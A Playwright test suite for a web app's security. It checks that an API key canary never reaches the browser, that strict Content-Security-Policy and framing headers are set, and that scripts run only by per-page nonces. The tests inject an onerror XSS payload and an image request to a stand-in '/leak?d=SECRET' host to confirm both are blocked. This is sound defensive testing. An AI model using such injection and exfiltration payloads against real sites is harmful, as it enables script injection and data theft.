import type { Response } from '@playwright/test';
import { expect, test } from '../support/e2e';
import { seedThread } from '../support/e2e-seed';
import { refuse } from '../support/scripted-answers';
import { KEY } from '../support/scripted-env';

test('the model key is in nothing the browser receives, not even when the provider quotes it', async ({
  page,
  app,
  visitor,
  coach,
  upstream,
}) => {
  const received: Promise<[string, string]>[] = [];
  page.on('response', (response) => received.push(bodyOf(response)));
  const threadId = await seedThread(visitor, { strategy: 'buffer' }, 1);
  await page.goto('/');
  await page.getByRole('button', { name: 'Shortcuts' }).waitFor();
  await coach.open(threadId);
  upstream.chat(refuse(401, `Incorrect API key provided: ${KEY}`));
  await coach.say('Question 2');
  await coach.notice.getByRole('button', { name: 'Show details' }).click();
  await expect(page.locator('body')).not.toContainText('CANARY');
  await page.goto(`/threads/${threadId}/archive`);
  await expect(page.getByRole('table', { name: 'Messages' })).toBeVisible();
  for (const path of ['', '/messages', '/turns', '/turns/1', '/turns/1/request', '/turns/2', '/summaries'])
    await page.request.get(`/api/threads/${threadId}${path}`).then(async (answer) => {
      received.push(Promise.resolve([path, await answer.text()]));
    });
  for (const path of ['/api/health', '/api/openapi.json', '/api/threads', '/api/auth/get-session'])
    received.push(Promise.resolve([path, await (await page.request.get(path)).text()]));
  const bodies = await Promise.all(received);
  expect(bodies.filter(([, body]) => body.includes('CANARY')).map(([url]) => url)).toEqual([]);
  expect(bodies.filter(([url]) => url.includes('.js')).length).toBeGreaterThan(3);
  expect(app.output()).not.toContain('CANARY');
  expect(upstream.chats()[1]?.headers.authorization).toBe(`Bearer ${KEY}`);
});

test('every page forbids images, frames, forms and requests of other origins, and being framed', async ({
  page,
  visitor,
}) => {
  const threadId = await seedThread(visitor, { strategy: 'buffer' }, 0);
  for (const path of ['/', `/threads/${threadId}`, `/threads/${threadId}/archive`]) {
    const headers = (await page.goto(path))?.headers() ?? {};
    for (const rule of [
      "default-src 'self'",
      "img-src 'self' data:",
      "connect-src 'self'",
      "frame-src 'none'",
      "frame-ancestors 'none'",
      "form-action 'self'",
      "object-src 'none'",
      "base-uri 'self'",
    ])
      expect(headers['content-security-policy']).toContain(rule);
    expect(headers).toMatchObject({ 'x-content-type-options': 'nosniff', 'x-frame-options': 'DENY' });
    expect(headers['x-powered-by']).toBeUndefined();
  }
});

test.describe('scripts', () => {
  test.use({ tolerates: /404 \(Not Found\)|violates the following Content Security Policy/ });

  test('a script runs by its page’s nonce alone: each page has its own, keeps to it, and an injected script stays dead', async ({
    page,
    visitor,
  }) => {
    const threadId = await seedThread(visitor, { strategy: 'buffer' }, 1);
    const violations: string[] = [];
    await page.exposeFunction('violated', (what: string) => violations.push(what));
    await page.addInitScript(() => {
      addEventListener('securitypolicyviolation', ({ violatedDirective, sourceFile, blockedURI }) =>
        Reflect.get(window, 'violated')(`${violatedDirective} ${blockedURI} ${sourceFile}`),
      );
    });
    const nonces = new Set<string>();
    for (const path of ['/', `/threads/${threadId}`, `/threads/${threadId}/archive`, '/nowhere']) {
      const policy = (await page.goto(path))?.headers()['content-security-policy'] ?? '';
      const script = policy.split('; ').find((rule) => rule.startsWith('script-src')) ?? '';
      const [, nonce = ''] = /^script-src 'nonce-([0-9a-f]{32})' 'strict-dynamic'$/.exec(script) ?? [];
      nonces.add(nonce);
      await expect(page.getByRole('button', { name: 'Shortcuts' })).toBeVisible();
    }
    expect([nonces.size, nonces.has(''), violations]).toEqual([4, false, []]);
    await page.evaluate(() => {
      const script = document.createElement('div');
      script.innerHTML = '<img src="x" onerror="window.injected = true">';
      document.body.append(script);
    });
    await expect.poll(() => violations.length).toBeGreaterThan(0);
    expect(await page.evaluate(() => Reflect.get(window, 'injected'))).toBeUndefined();
  });
});

test('the API’s answers may load nothing, and keep to themselves', async ({ page }) => {
  const headers = (await page.request.get('/api/health')).headers();
  expect(headers).toMatchObject({
    'content-security-policy': expect.stringContaining("default-src 'none'"),
    'x-content-type-options': 'nosniff',
    'cross-origin-resource-policy': 'same-origin',
    'cache-control': expect.stringContaining('no-store'),
  });
});

test.describe('a second layer under the inert Markdown', () => {
  test.use({ tolerates: /Content Security Policy|127\.0\.0\.1:9/ });

  test('an image that found its way into the page would still not be fetched from elsewhere', async ({
    page,
  }) => {
    await page.goto('/');
    const refused = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', (event) => resolve(event.violatedDirective));
          document.body.append(Object.assign(new Image(), { src: 'http://127.0.0.1:9/leak?d=SECRET' }));
        }),
    );
    expect(refused).toBe('img-src');
  });
});

/** A redirect and a page that was left before it ended have no body to look at. */
async function bodyOf(response: Response): Promise<[string, string]> {
  return [response.url(), await response.text().catch(() => '')];
}
